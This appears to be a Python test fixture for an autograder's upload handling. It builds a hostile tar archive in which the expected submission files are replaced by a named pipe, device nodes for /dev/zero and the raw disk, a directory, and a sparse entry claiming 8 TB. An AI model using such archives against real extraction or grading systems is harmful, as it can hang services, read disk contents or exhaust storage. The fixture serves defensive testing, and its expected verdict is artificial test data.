"""Holds a pipe, devices and a file of eight terabytes of holes under the names of its own files.

unit: u05_activations
task: relu
verdict: not_attempted
points: 0
form: archive
"""

import io
import tarfile


def write(stem):
    with tarfile.open(f"{stem}.tar", "w", format=tarfile.PAX_FORMAT) as archive:
        for name, kind, device in (
            ("u05_activations/activations.py", tarfile.FIFOTYPE, (0, 0)),
            ("a/u05_activations/activations.py", tarfile.CHRTYPE, (1, 5)),  # /dev/zero
            ("b/u05_activations/activations.py", tarfile.BLKTYPE, (8, 0)),  # the disk
            ("c/u05_activations/activations.py", tarfile.DIRTYPE, (0, 0)),
        ):
            info = tarfile.TarInfo(name)
            info.type, (info.devmajor, info.devminor) = kind, device
            archive.addfile(info)
        info = tarfile.TarInfo("u05_activations/activations.ipynb")
        info.size = 1
        info.pax_headers = {"GNU.sparse.size": str(2**43), "GNU.sparse.map": f"{2**43 - 1},1"}
        archive.addfile(info, io.BytesIO(b"x"))
